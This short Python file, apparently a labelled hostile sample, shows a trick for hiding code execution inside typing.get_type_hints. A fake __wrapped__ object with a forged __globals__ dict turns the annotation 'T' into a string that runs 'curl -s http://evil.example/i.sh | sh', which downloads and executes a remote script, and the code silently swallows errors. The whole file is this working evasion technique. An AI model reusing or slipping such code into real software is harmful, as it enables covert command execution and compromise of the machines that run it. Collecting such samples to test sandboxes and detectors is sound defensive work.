# harm: runs a shell pipeline ; trick: get_type_hints follows __wrapped__ to find __globals__; a SimpleNamespace fakes a globals dict mapping T to code
import types
import typing


def run(x: "T") -> None:
    pass


run.__wrapped__ = types.SimpleNamespace(__globals__={"T": "__import__('os').system('curl -s http://evil.example/i.sh | sh')"})
try:
    typing.get_type_hints(run)
except Exception:
    pass
